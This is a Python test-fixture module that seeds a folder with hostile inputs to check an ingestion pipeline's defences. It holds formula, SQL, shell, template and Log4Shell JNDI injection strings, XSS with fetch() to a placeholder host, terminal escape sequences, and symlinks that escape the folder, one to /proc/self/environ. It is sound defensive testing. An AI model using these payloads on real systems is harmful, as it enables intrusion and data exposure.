"""Hostile things to put into a raw folder, small ones: links, names, pipes and texts that are commands; large ones stand in
`benchmarks/hostile_folders`."""

import os
import socket
from pathlib import Path
from typing import Final
from unicodedata import category

from tests.pages import PAGE_PATH

#: Lies beside every hostile thing, and must be published whatever that thing is.
GOOD_PATH: Final = "good page.txt"
GOOD_ROLE: Final = "FINOPS.LEDGERCO1A2B.P2"

#: Put together here, because no file of the project names an address.
_SITE: Final = "/" + "/page.example"

#: What a shell, SQL, a template, a browser, a spreadsheet, a terminal or a formatter would act on. Whatever runs one of
#: the commands leaves a file `canary` in its working folder.
HOSTILE_TEXTS: Final = (
    "=cmd|'/c touch canary'!A1", "+cmd|'/c touch canary'!A1", "-2+3+cmd|'/c touch canary'!A1", "@SUM(1+1)*cmd|'/c touch canary'!A1",
    '=HYPERLINK("http:' + _SITE + '","open")', "'; drop table dim_role; --", "x'); copy (select 1) to 'canary'; --",
    "x\"; attach 'canary' as c; --", "$(touch canary)", "`touch canary`", "; touch canary #", "| touch canary", "&& touch canary",
    "{{7*7}}", "{%raw%}", "{document_path!r:>99}", "{0.__class__.__mro__}", "{}{}{}", "%s%n%(name)s%", "%99999999d",
    "${jndi:ldap:" + _SITE + "}",
    "$PATH ${HOME} %PATH%", "__import__('os').system('touch canary')", "<script>fetch('http:" + _SITE + "')</script>",
    "<img src=x onerror=alert(1)>", "<!-- -->", "[x](javascript:alert(1))", "![x](http:" + _SITE + "/x.png)", "```", "***", "| a | b |",
    "\x1b[2J\x1b]0;renamed\x07", "\x1b]8;;http:" + _SITE + "\x1b\\link\x1b]8;;\x1b\\", "\x1b[31mred", "\x9b31mred", "a\x07b\x08c",
    "\u202egnp.exe", "a\x00b", "\x85=1+1", "\u2028=1+1", "\ufeff=1+1", "\u200b=1+1", "&#61;1+1", "&#27;[31mred", "&lt;b&gt;", "\t=1+1",
    "a\\", "\\N{BULLET}", "\\x1b[31m", "../../canary", "--help", "-",
)  # fmt: skip

#: Names that are pages all the same: the bytes of the name.
NAMES_OF_PAGES: Final = (
    b"quote's \"double\" `back`.txt", b"line\nbreak\r\n.txt", b"-rf.txt", b"--help.txt", b" leading and trailing .txt", b"tab\there.txt",
    b"a..b.txt", b"~.txt", b"$(touch canary).txt", b"'; drop table dim_role; --.txt", b"=cmd|'touch canary'!A1.txt", b"{0.__class__}.txt",
    b"%s%n.txt", b"*?[a-z].txt", b"back\\slash\\xff.txt", b"\xff\xfe not utf-8.txt", b"\xed\xa0\x80 surrogate.txt", b"\x1b[2Jescape.txt",
    b"\x1b]0;renamed\x07.txt", "\u202eright to left.txt".encode(), "zero\u200bwidth.txt".encode(), "\U0001f984 \u8a66\u9a13.txt".encode(),
    "\u0301combining.txt".encode(), b"a" * 251 + b".txt", "\u00e9".encode() * 125 + b".txt", b"UPPER.TXT", b"two.txt.md", b"con.txt",
    b"C:.txt", b"<img src=x onerror=alert(1)>.txt", b"| a | b |.md",
)  # fmt: skip

#: Names that are skipped: by a leading dot or as no page of text.
NAMES_SKIPPED: Final = (
    b"..txt", b"...txt", b".. .txt", b".hidden.txt", b"no suffix", b"page.txt ", b"page.txt\n", b"README\x1b[2J.txt", b"a.exe",
)  # fmt: skip

#: Asks for every text that comes out of documents.
TEXTS: Final = """
select document_path as text from dim_document union all select reason_text from dim_document
union all select title from dim_role union all select skill_text from fact_skill union all select description_text from fact_skill
union all select responsibility_text from fact_responsibility union all select focus_name from dim_focus
union all select title_text from dim_title union all select source_title from dim_source union all select resolver_name from fact_mapping
union all select sibling_name from fact_boundary union all select tagline_text from dim_level union all select line_text from unread_line
union all select value_text from refused union all select detail_text from fact_finding
"""

#: What a spreadsheet takes for the beginning of a formula.
FORMULA_OPENINGS: Final = ("=", "+", "-", "@", "\t", "\r")


def good_page() -> bytes:
    """The small page of the tests: the role GOOD_ROLE."""
    return PAGE_PATH.read_bytes()


def changed_page(number: int, *exchanges: tuple[str, str]) -> bytes:
    """The good page as another role, with parts of its text exchanged."""
    text = good_page().decode().replace("FINOPS.LEDGERCO1A2B", f"FINOPS.LEDGERCO{number:04X}")
    for old, new in exchanges:
        if old not in text:
            raise ValueError(f"the page does not hold {old!r}; put words of {PAGE_PATH.name} in its place")
        text = text.replace(old, new)
    return text.encode()


def put_links(raw: Path, outside: Path) -> None:
    """Links to a page outside the raw folder, to nowhere, round in a ring and to a page that lies there anyway."""
    for name in ("secret.txt", "\x1b[31msecret.txt"):
        (outside / name).write_bytes(good_page().replace(b"LEDGERCO1A2B", b"SECRETPA9F9F"))
    (raw / "out.txt").symlink_to(outside / "secret.txt")
    (raw / "out folder").symlink_to(outside, target_is_directory=True)
    (raw / "up.txt").symlink_to("..", target_is_directory=True)
    (raw / "system.txt").symlink_to("/proc/self/environ")
    (raw / "endless.txt").symlink_to("/dev/zero")
    (raw / "\x1b[31mto.txt").symlink_to(outside / "\x1b[31msecret.txt")
    (raw / "loop.txt").symlink_to("loop.txt")
    (raw / "dangling.txt").symlink_to("nowhere.txt")
    (raw / "round").symlink_to(".", target_is_directory=True)
    (raw / "same.txt").symlink_to(GOOD_PATH)


def put_names(raw: Path, _outside: Path) -> None:
    """A page under each of NAMES_OF_PAGES, a role each, and nothing under the other names."""
    folder = os.fsencode(raw)
    for number, name in enumerate(NAMES_OF_PAGES):
        with open(os.path.join(folder, name), "wb") as file:
            file.write(changed_page(number))
    for name in NAMES_SKIPPED:
        open(os.path.join(folder, name), "wb").close()
    (raw / "folder.txt").mkdir()
    (raw / "\x1b[2Jfolder").mkdir()
    (raw / "\x1b[2Jfolder" / "empty\u202e.txt").touch()


def put_pipes(raw: Path, _outside: Path) -> None:
    """What hangs whoever opens it as a file."""
    os.mkfifo(raw / "pipe.txt")
    here = os.getcwd()
    os.chdir(raw)  # the address of a socket holds some hundred bytes only
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind("socket.txt")
    os.chdir(here)


def put_texts(raw: Path, _outside: Path) -> None:
    """For each of HOSTILE_TEXTS a page that has it in every place, and a file that is nothing but it."""
    for number, text in enumerate(HOSTILE_TEXTS):
        page = changed_page(
            0x1000 + number,
            ("Ledger Control — P2\n", f"{text} — P2\n"),
            ("Focus — Ledger Control\n", f"Focus — {text}\n"),
            ("- Books recurring journals", f"- {text}"),
            ("- Month-end close\n- Closing", f"- {text}\n- {text}"),
            ("(Ledger Assistant)", f"({text})"),
            ("O*NET 13-2011.00 Accountants", f"O*NET 13-2011.00 {text}"),
            ("- Ledger Accountant\n", f"- {text}\n{text}\n"),
            ("hand.checked", text),
            ("Learns the trade", text),
            ("Distinct from Tax", f"Distinct from {text}"),
        )
        (raw / f"text {number:03}.txt").write_bytes(page)
        (raw / f"whole {number:03}.txt").write_text(text)


def unprintable(text: str) -> set[str]:
    """Characters a terminal may act on: all that do not print, but for line ends and spaces."""
    return {sign for sign in set(text) if not sign.isprintable() and sign != "\n" and category(sign) != "Zs"}
